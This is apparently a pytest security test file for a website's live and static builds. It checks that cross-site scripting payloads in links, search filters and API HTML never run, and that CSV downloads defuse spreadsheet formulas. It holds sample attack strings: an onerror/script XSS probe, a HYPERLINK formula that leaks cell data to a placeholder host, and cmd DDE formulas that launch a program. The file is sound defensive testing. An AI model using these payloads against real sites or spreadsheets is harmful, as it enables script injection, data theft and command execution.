# --- findings --------------------------------------------------------------------------------


@pytest.mark.parametrize("site", ["live", "static"])
@pytest.mark.parametrize("finding", FINDINGS, ids=lambda finding: finding.name)
def test_partner_addresses_in_links_cannot_run_script(hostile, chromium, finding: Finding, site: str):
    """Every link carrying a known payload is clicked: none may be there with a script
    address, and none may run."""
    page = Page(site, finding.pages[0])
    url = hostile.url(page)
    seen = page_visit(hostile, chromium, page)
    dangerous = [f"{what}: {snippet}" for what, value, snippet in seen.audit
                 if _known(value, set(finding.labels)) and " address in " in what]
    ran = []
    if dangerous:  # the proof: click each such link on a fresh copy of the page
        visit(chromium, url)
        for link in chromium.find_elements(By.TAG_NAME, "a"):
            if _known(link.get_dom_attribute("href") or "", set(finding.labels)):
                try:
                    chromium.execute_script("arguments[0].click()", link)
                    time.sleep(SETTLE)
                except UnexpectedAlertPresentException as error:
                    ran.append(f"dialog {error.alert_text}")
        ran += chromium.execute_script("return window.__hostileCalls || []")
    assert not dangerous and not ran, (
        f"{finding.where}\non {url}:\n" + "\n".join(dangerous) + "\nclicked, ran: " + repr(ran))


@pytest.mark.parametrize("query", ["zzzqqq", QUERY], ids=["words-that-find-nothing", "words-that-find-it"])
def test_static_search_shows_filter_values_as_text(hostile, chromium, query: str):
    """The export's search page, after any search (Pagefind shows its filters only then): the
    filters' values (City is the partner's place name) must stay text."""
    if not (hostile.site / "pagefind").is_dir():
        pytest.skip("the export has no Pagefind index (pagefind_bin is not installed)")

    def filters_shown(driver):
        WebDriverWait(driver, 30).until(lambda d: d.find_elements(By.CSS_SELECTOR, ".pagefind-ui__filter-label"))

    url = f"{hostile.static}/en/search/?q={query}"
    seen = visit(chromium, url, filters_shown)
    labels = [element.get_attribute("outerHTML") for element in
              chromium.find_elements(By.CSS_SELECTOR, ".pagefind-ui__filter-label")
              if "Xssville" in element.get_attribute("textContent")]
    assert labels, "the hostile city is not among Pagefind's filters"
    assert not seen.ran(), f"a payload ran on {url}:\n" + "\n".join(seen.ran()) + "\nin " + "\n".join(labels)


# --- the API and the downloads ---------------------------------------------------------------

SANITISED_TAGS = {
    "p", "br", "hr", "a", "ul", "ol", "li", "dl", "dt", "dd", "em", "strong", "b", "i", "u", "s", "sub", "sup",
    "small", "mark", "abbr", "cite", "q", "blockquote", "code", "pre", "kbd", "table", "caption", "thead", "tbody",
    "tfoot", "tr", "th", "td", "h3", "h4", "h5", "h6",
}
SANITISED_ATTRIBUTES = {"href", "title", "hreflang", "rel", "start", "colspan", "rowspan", "scope", "lang", "dir"}


class _Markup(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attributes):
        if tag not in SANITISED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attributes:
            if name not in SANITISED_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "href" and not re.match(r"(?i)(https?|mailto|tel):", value or ""):
                self.problems.append(f"<{tag} href={value!r}>")

    handle_startendtag = handle_starttag


def test_the_json_api_returns_the_payloads_as_json_strings(hostile):
    status, headers, body = _get(f"{hostile.live}/api/search?q={QUERY}&lang=en")
    assert status == 200
    assert headers["Content-Type"].startswith("application/json"), headers["Content-Type"]
    assert headers.get("X-Content-Type-Options") == "nosniff"
    hits = json.loads(body)["hits"]
    titles = {record["title"] for record in hostile.entries.values()}
    assert len(hits) >= 10 and {hit["title"] for hit in hits} <= titles, [hit["title"] for hit in hits]
    assert any("<script>alert(" in hit["title"] for hit in hits), "no title came back with its <script> as text"
    for name, record in hostile.entries.items():
        status, headers, body = _get(f"{hostile.live}/api/entries/{hostile.slug(name)}")
        assert status == 200 and headers["Content-Type"].startswith("application/json")
        entry = json.loads(body)["entry"]
        assert entry["title"] == record["title"], name
        if entry.get("content"):
            parser = _Markup()
            parser.feed(entry["content"]["html"])
            parser.close()
            assert not parser.problems, f"{name}: the stored HTML holds {parser.problems}"
    first = json.loads(_get(f"{hostile.live}/api/entries/{hostile.slug('practice/plain-text')}")[2])["entry"]
    assert first["summary"].startswith("xssprobe summary <img src=x onerror=alert('summary-1')>"), first["summary"]


FORMULA_TITLES = {
    "=HYPERLINK(\"http://127.0.0.1:9/leak?\"&A1,\"xssprobe formula\")",
    "+cmd|' /C calc'!A0 xssprobe plus",
    "-2+3+cmd|' /C calc'!A0 xssprobe minus",
    "@SUM(1+1)*cmd|' /C calc'!A0 xssprobe at",
}


@pytest.mark.parametrize("download", ["api-search", "visit", "diagnosis-live", "diagnosis-static", "directory-static"])
def test_csv_downloads_defuse_formulas(hostile, download: str):
    formulas = [name for name, record in hostile.entries.items() if record["title"] in FORMULA_TITLES]
    assert len(formulas) == len(FORMULA_TITLES), "the formula entries are not all in the index"
    if download == "api-search":
        url = f"{hostile.live}/api/search.csv?q={QUERY}"
    elif download == "visit":
        url = f"{hostile.live}/en/visit.csv?" + "&".join(f"visit={hostile.slug(name)}" for name in formulas)
    elif download == "diagnosis-live":
        url = f"{hostile.live}/en/city/xssburg/diagnosis.csv"
    elif download == "diagnosis-static":
        url = f"{hostile.static}/en/city/xssburg/diagnosis.csv"
    else:
        url = f"{hostile.static}/directory.csv"
    status, headers, body = _get(url)
    assert status == 200, f"{url}: {status}"
    rows = list(csv.reader(io.StringIO(body.decode("utf8"), newline="")))
    assert len(rows) > 1, f"{url} has no rows"
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"{url}: cells a spreadsheet would run as formulas: {live}"
    defused = {cell[1:] for cell in cells if cell.startswith("'")}
    assert FORMULA_TITLES <= defused, f"{url}: formula titles missing or not defused: {FORMULA_TITLES - defused}"
